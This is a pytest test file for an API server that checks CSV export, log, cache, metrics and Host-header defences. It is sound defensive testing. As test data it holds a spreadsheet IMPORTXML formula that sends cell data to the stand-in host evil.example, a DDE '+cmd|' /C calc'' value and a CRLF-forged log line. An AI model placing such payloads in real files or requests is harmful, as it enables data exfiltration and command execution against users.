"""Hostile and careless clients against a live server (real sockets): what they send must not
poison caches, metrics, logs or spreadsheets, and refusals must stay readable."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import logging
import socket
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from sqlalchemy.engine import Engine

from app.db import get_sessionmaker
from app.extract.records import ActorRecord, StatementRecord
from app.ingest.store import store_extraction
from app.logs import JsonFormatter, RequestIdFilter, TextFormatter
from app.main import create_app
from tests import factories as f
from tests.ops.helpers import bearer, new_key, settings
from tests.reliability.conftest import assert_problem, live_server

FORMULA = '=IMPORTXML("http://evil.example/?"&A1,"//a")'
EVIL = ActorRecord("evil", "+cmd|' /C calc'!A0", "organization", "PSE", aliases=["@SUM(1+1)"])


@contextlib.contextmanager
def served(monkeypatch: pytest.MonkeyPatch, **values: object) -> Iterator[str]:
    with settings(monkeypatch, **values), live_server(create_app()) as base:
        yield base


def raw(base: str, data: bytes) -> bytes:
    """Send `data` as-is on a fresh TCP connection; the whole answer."""
    u = urlsplit(base)
    with socket.create_connection((u.hostname, u.port), timeout=10) as s:
        s.sendall(data)
        chunks = []
        while chunk := s.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


@pytest.fixture
def formulas(db: Engine) -> None:
    """An event whose sentence and source actor, and a statement whose text and speaker, start
    with spreadsheet formula characters."""
    text = FORMULA + " Hamas met Egyptian officials in Cairo."
    with get_sessionmaker()() as session:
        store_extraction(
            session,
            f.extraction(
                text=text,
                actors=[EVIL, f.EGYSPY],
                events=[
                    f.event("CONSULT", EVIL, f.EGYSPY, date=dt.date(2017, 9, 11), end=len(text))
                ],
                statements=[
                    StatementRecord(
                        sentence=0,
                        start=0,
                        end=len(FORMULA),
                        text=FORMULA,
                        kind="direct",
                        cue="said",
                        speaker="evil",
                        date=dt.date(2017, 9, 11),
                    )
                ],
            ),
        )
        session.commit()


def _cells(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_exports_neutralise_formulas(formulas: None, monkeypatch: pytest.MonkeyPatch) -> None:
    with served(monkeypatch) as base:
        events = httpx.get(f"{base}/events", params={"format": "csv"})
        statements = httpx.get(f"{base}/statements", params={"format": "csv"})
        by_accept = httpx.get(f"{base}/statements", headers={"Accept": "text/csv"})
    assert events.status_code == statements.status_code == by_accept.status_code == 200
    assert statements.headers["content-type"].startswith("text/csv")
    (ev,) = _cells(events.text)
    (st,) = _cells(statements.text)
    assert ev["sentence"].startswith("'" + FORMULA) and ev["source_names"] == "'" + EVIL.name
    assert st["text"] == "'" + FORMULA and st["speaker_name"] == "'" + EVIL.name
    assert st["kind"] == "direct" and st["cue"] == "said"
    for row in (ev, st):
        assert not any(v.startswith(DANGEROUS) for v in row.values()), row
    assert by_accept.text == statements.text


def test_statements_stream_ndjson_and_refuse_geojson(
    formulas: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    with served(monkeypatch) as base:
        nd = httpx.get(f"{base}/statements", params={"format": "ndjson"})
        geo = httpx.get(f"{base}/statements", params={"format": "geojson"})
    lines = [json.loads(line) for line in nd.text.splitlines()]
    assert [s["text"] for s in lines] == [FORMULA]
    assert assert_problem(geo, 422)["param"] == "format"


def test_protected_reads_are_private_and_vary_on_credentials(
    formulas: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = new_key("read")
    with served(monkeypatch, require_read_key="true") as base:
        page = httpx.get(f"{base}/events", headers=bearer(key))
    assert page.status_code == 200
    assert page.headers["cache-control"].startswith("private")
    vary = {v.strip().lower() for v in page.headers["vary"].split(",")}
    assert {"authorization", "x-api-key"} <= vary


def test_public_reads_stay_public_and_negotiated_answers_vary_on_accept(
    formulas: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    with served(monkeypatch) as base:
        negotiated = httpx.get(f"{base}/events")
        single = httpx.get(f"{base}/events/{negotiated.json()['items'][0]['id']}")
    assert negotiated.headers["cache-control"].startswith("public")
    assert "accept" in negotiated.headers.get("vary", "").lower()
    assert "authorization" not in negotiated.headers.get("vary", "").lower()
    assert "accept" not in single.headers.get("vary", "").lower().replace("accept-encoding", "")


def test_invented_methods_do_not_grow_metrics(db: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    with served(monkeypatch) as base:
        for i in range(30):
            raw(
                base,
                f"XMETHOD{i} /events HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode(),
            )
        scrape = httpx.get(f"{base}/metrics").text
    assert "XMETHOD" not in scrape
    methods = {
        line.split('method="')[1].split('"')[0]
        for line in scrape.splitlines()
        if line.startswith("dyad_http_requests_total{")
    }
    assert methods <= {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "OTHER"}


class _Lines(logging.Handler):
    def __init__(self, formatter: logging.Formatter) -> None:
        super().__init__()
        self.setFormatter(formatter)
        self.addFilter(RequestIdFilter())
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.mark.parametrize("formatter", [JsonFormatter(), TextFormatter()], ids=["json", "text"])
def test_log_lines_cannot_be_split_or_forged(
    db: Engine, monkeypatch: pytest.MonkeyPatch, formatter: logging.Formatter
) -> None:
    handler = _Lines(formatter)
    access = logging.getLogger("dyad.access")
    access.addHandler(handler)
    level = access.level
    access.setLevel(logging.INFO)
    try:
        with served(monkeypatch) as base:
            for path in (
                "/events%0D%0A2026-01-01%20INFO%20dyad.access%20[x]%20GET%20/admin%20200",
                "/events%E2%80%A8forged",
                "/events%C2%85forged",
            ):
                raw(base, f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    finally:
        access.removeHandler(handler)
        access.setLevel(level)
    assert len(handler.lines) == 3, handler.lines
    for line in handler.lines:
        assert len(line.splitlines()) == 1, line
        assert "forged" in line or "admin" in line


def test_host_header_is_not_reflected_into_links(
    db: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.api.seeded import seed_events

    with get_sessionmaker()() as s:
        seed_events(s)
    with served(monkeypatch) as base:
        page = httpx.get(f"{base}/events?limit=1", headers={"Host": "evil.example"})
    assert page.status_code == 200
    assert page.json()["next"].startswith("/events?")
    assert "evil.example" not in page.headers["link"] and "evil.example" not in page.text
    with served(monkeypatch, public_base_url="https://dyad.example.org/") as base:
        page = httpx.get(f"{base}/events?limit=1", headers={"Host": "evil.example"})
    assert page.json()["next"].startswith("https://dyad.example.org/events?")
    assert page.headers["link"].startswith("<https://dyad.example.org/events?")


def test_refusals_carry_api_version_and_cors(db: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    origin = {"Origin": "https://dash.example"}
    with served(
        monkeypatch,
        rate_limit_per_minute=1,
        cors_origins="https://dash.example",
        max_body_bytes=100,
    ) as base:
        httpx.get(f"{base}/events", headers=origin)
        limited = httpx.get(f"{base}/events", headers=origin)
    with served(monkeypatch, cors_origins="https://dash.example", max_body_bytes=100) as base:
        too_big = httpx.post(f"{base}/extract", content=b"x" * 1000, headers=origin)
    for resp, status in ((limited, 429), (too_big, 413)):
        assert_problem(resp, status)
        assert resp.headers["api-version"] == "1"
        assert resp.headers["access-control-allow-origin"] == "https://dash.example"


def test_unknown_article_is_a_422(db: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    with served(monkeypatch) as base:
        for path in ("/events", "/statements"):
            body = assert_problem(httpx.get(f"{base}{path}", params={"article": 999}), 422)
            assert body["param"] == "article"


def test_job_id_is_described(client: Any) -> None:
    spec = client.get("/openapi.json").json()
    params = spec["paths"]["/ingest-jobs/{job_id}"]["get"]["parameters"]
    (job_id,) = [p for p in params if p["name"] == "job_id"]
    assert job_id.get("description")


def test_fuzzy_actor_search_work_is_bounded(db: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    import difflib

    actors = [
        ActorRecord(f"h{i}", f"Harakat Group {i}", "organization", "PSE", aliases=[f"Hizb {i}"])
        for i in range(300)
    ]
    with get_sessionmaker()() as session:
        store_extraction(session, f.extraction(actors=actors))
        session.commit()
    calls = {"ratio": 0}
    ratio = difflib.SequenceMatcher.ratio

    def counted(self: difflib.SequenceMatcher[str]) -> float:
        calls["ratio"] += 1
        return ratio(self)

    monkeypatch.setattr(difflib.SequenceMatcher, "ratio", counted)
    with served(monkeypatch) as base:
        long_q = httpx.get(f"{base}/actors", params={"q": "h" + "zq" * 140})
        far_q = httpx.get(f"{base}/actors", params={"q": "hzqzqzqzqzqzqzqzqzqzq"})
        hostile_calls = calls["ratio"]
        typo = httpx.get(f"{base}/actors", params={"q": "harakat grop 7"})
    assert long_q.status_code == far_q.status_code == typo.status_code == 200
    assert long_q.json()["items"] == far_q.json()["items"] == []
    assert typo.json()["items"], "a near miss is still found"
    # Neither a query longer than any name nor one far from every alias reaches difflib's
    # quadratic comparison (on main: 600 full comparisons each, 1,200 in all).
    assert hostile_calls == 0, calls
